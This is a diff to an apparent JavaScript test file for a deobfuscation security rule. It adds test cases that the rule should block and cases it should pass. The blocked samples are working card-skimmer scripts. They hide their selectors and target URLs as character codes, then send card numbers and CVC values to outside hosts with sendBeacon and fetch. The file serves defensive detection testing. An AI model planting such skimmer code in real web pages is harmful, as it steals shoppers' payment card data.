@@ -25,4 +25,29 @@ deobfCases("javascript", [
       `const t = atob('eyJhbGciOiJIUzI1NiJ9'); console.log(JSON.parse(t))`,
     ],
   },
+  {
+    // A card skimmer whose selectors, sender and URL are char codes (an appsec rule on the view).
+    id: "decoded",
+    block: [
+      `<script>var w=window,d=document,u=String.fromCharCode(${
+        enc.codes("https://px.stat-edge.net/b")
+      });
+d.addEventListener('submit',function(){var v=d.querySelector(String.fromCharCode(${
+        enc.codes("#card-number")
+      })).value;
+w[String.fromCharCode(${enc.codes("navigator")})][String.fromCharCode(${
+        enc.codes("sendBeacon")
+      })](u,v);},true);</script>`,
+      `<script>var k=[String.fromCharCode(${enc.codes("[name=cvc]")})],h=String.fromCharCode(${
+        enc.codes("https://cdn.fontpack.io/f")
+      });
+document.forms[0].addEventListener('change',function(){fetch(h,{method:'POST',body:document.querySelector(k[0]).value});});</script>`,
+    ],
+    pass: [
+      `<script>var l=String.fromCharCode(${enc.codes("#card-number")});
+document.addEventListener('submit',function(){document.querySelector(l).classList.add('checked');});</script>`,
+      `<script>var u=String.fromCharCode(${enc.codes("/api/checkout")});
+form.addEventListener('submit',function(){fetch(u,{method:'POST',body:new FormData(form)});});</script>`,
+    ],
+  },
 ]);
